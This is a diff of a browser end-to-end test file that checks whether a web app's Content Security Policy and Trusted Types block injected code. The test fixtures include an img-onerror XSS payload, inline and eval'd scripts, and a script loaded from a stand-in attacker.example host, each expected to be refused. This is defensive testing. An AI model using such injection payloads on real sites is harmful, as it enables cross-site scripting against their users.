@@ -1,105 +1,78 @@
 import { expect } from 'playwright/test';
-import { describe, test } from 'vitest';
+import { test } from 'vitest';
 import { expectErrors, openPage, serverOfFile } from '#tests/support/browsers/e2e.ts';
-import { signUpTestUser } from '#tests/support/test-user.ts';
-import { TOAST } from './pages/toast.ts';
 
 const server = serverOfFile();
 
-// The page watcher fails every browser test on an error or a swallowed policy violation (support/e2e.ts);
-// every-screen.test.ts visits all pages.
-describe('the console is empty, and nothing violates the policy', () => {
-  test('with a message and a dialog', async () => {
-    const testUser = await signUpTestUser(server);
-    const page = await openPage(server.url, { storageState: testUser.storageState });
-    await page.goto('/profile');
-    await page
-      .getByRole('button', { name: /Dark mode|Light mode/ })
-      .first()
-      .click();
-    await expect(page.locator(TOAST)).toBeVisible();
-    await page.getByRole('button', { name: /edit profile/i }).click();
-    await expect(page.getByRole('dialog')).toBeVisible();
-    // The scroll lock injects its own style.
-    const overflow = () => page.evaluate(() => getComputedStyle(document.body).overflow);
-    await expect.poll(overflow).toBe('hidden');
-    await page.keyboard.press('Escape');
-    await expect.poll(overflow).toBe('visible');
+// The page watcher fails every browser test on an error or a swallowed policy violation (support/e2e.ts).
+const attempts = {
+  'text as markup': () => {
+    document.body.innerHTML = '<img src=x onerror="document.title = \'taken\'">';
+  },
+  'text as a script': () => {
+    const script = document.createElement('script');
+    script.text = "document.title = 'taken'";
+    document.body.append(script);
+  },
+  'an address as a script': () => {
+    const script = document.createElement('script');
+    script.src = 'https://attacker.example/x.js';
+    document.body.append(script);
+  },
+  // In a timer, because code evaluated by the test bypasses the policy.
+  'text as code': () =>
+    new Promise<void>((resolve, reject) => {
+      setTimeout(() => {
+        try {
+          // biome-ignore lint/security/noGlobalEval: that this is refused is what the test is about
+          globalThis.eval("document.title = 'taken'");
+          resolve();
+        } catch (error) {
+          reject(error);
+        }
+      });
+    }),
+  'a policy of its own making': () => {
+    window.trustedTypes?.createPolicy('own', { createHTML: String });
+  },
+};
+test('foreign code in markup, scripts, code, other policies and styles is blocked', async () => {
+  const page = await openPage(server.url);
+  await page.goto('/contact');
+  expectErrors(
+    page,
+    /against the policy|Content Security Policy|TrustedTypes?|TrustedHTML|This document requires/i,
+  );
+  const title = await page.title();
+  for (const [what, attempt] of Object.entries(attempts)) {
+    await expect(page.evaluate<unknown>(attempt), what).rejects.toThrow();
+    expect(await page.title(), what).toBe(title);
+  }
+  const weights = await page.evaluate(() => {
+    const sheet = document.createElement('style');
+    sheet.textContent = 'h1 { font-weight: 123 !important; }';
+    document.head.append(sheet);
+    const heading = document.querySelector('h1');
+    heading?.setAttribute('style', 'font-weight: 321 !important');
+    return heading ? getComputedStyle(heading).fontWeight : '';
   });
+  expect(weights).toMatch(/^\d+$/);
+  expect(weights).not.toMatch(/123|321/);
 });
 
-describe('foreign code', () => {
-  const attempts = {
-    'text as markup': () => {
-      document.body.innerHTML = '<img src=x onerror="document.title = \'taken\'">';
-    },
-    'text as a script': () => {
-      const script = document.createElement('script');
-      script.text = "document.title = 'taken'";
-      document.body.append(script);
-    },
-    'an address as a script': () => {
-      const script = document.createElement('script');
-      script.src = 'https://attacker.example/x.js';
-      document.body.append(script);
-    },
-    // In a timer, because code evaluated by the test bypasses the policy.
-    'text as code': () =>
-      new Promise<void>((resolve, reject) => {
-        setTimeout(() => {
-          try {
-            // biome-ignore lint/security/noGlobalEval: that this is refused is what the test is about
-            globalThis.eval("document.title = 'taken'");
-            resolve();
-          } catch (error) {
-            reject(error);
-          }
-        });
-      }),
-    'a policy of its own making': () => {
-      window.trustedTypes?.createPolicy('own', { createHTML: String });
-    },
-  };
-  test('in markup, scripts, code, other policies and styles is blocked', async () => {
-    const page = await openPage(server.url);
-    await page.goto('/contact');
-    expectErrors(
-      page,
-      /against the policy|Content Security Policy|TrustedTypes?|TrustedHTML|This document requires/i,
-    );
-    const title = await page.title();
-    for (const [what, attempt] of Object.entries(attempts)) {
-      await expect(page.evaluate<unknown>(attempt), what).rejects.toThrow();
-      expect(await page.title(), what).toBe(title);
-    }
-    const weights = await page.evaluate(() => {
-      const sheet = document.createElement('style');
-      sheet.textContent = 'h1 { font-weight: 123 !important; }';
-      document.head.append(sheet);
-      const heading = document.querySelector('h1');
-      heading?.setAttribute('style', 'font-weight: 321 !important');
-      return heading ? getComputedStyle(heading).fontWeight : '';
-    });
-    expect(weights).toMatch(/^\d+$/);
-    expect(weights).not.toMatch(/123|321/);
-  });
-});
-
-describe('simple pages', () => {
-  test('opened from a mail have their own styles, and the console stays empty', async () => {
-    const page = await openPage(server.url);
-    for (const path of [
-      '/newsletter/unsubscribe?token=none',
-      '/account-deletion-requests/confirm?token=none',
-    ]) {
-      expectErrors(page, /status of 4\d\d/);
-      const answer = await page.goto(path);
-      expect([path, answer?.headers()['content-security-policy']]).toEqual([
-        path,
-        expect.stringMatching(/style-src 'sha256-[^']+'/),
-      ]);
-      const display = await page.evaluate(() => getComputedStyle(document.body).display);
-      expect([path, display]).toEqual([path, 'grid']);
-    }
-  });
+test('simple pages opened from a mail have their own styles, and the console stays empty', async () => {
+  const page = await openPage(server.url);
+  for (const path of [
+    '/newsletter/unsubscribe?token=none',
+    '/account-deletion-requests/confirm?token=none',
+  ]) {
+    expectErrors(page, /status of 4\d\d/);
+    const answer = await page.goto(path);
+    expect([path, answer?.headers()['content-security-policy']]).toEqual([
+      path,
+      expect.stringMatching(/style-src 'sha256-[^']+'/),
+    ]);
+    const display = await page.evaluate(() => getComputedStyle(document.body).display);
+    expect([path, display]).toEqual([path, 'grid']);
+  }
 });
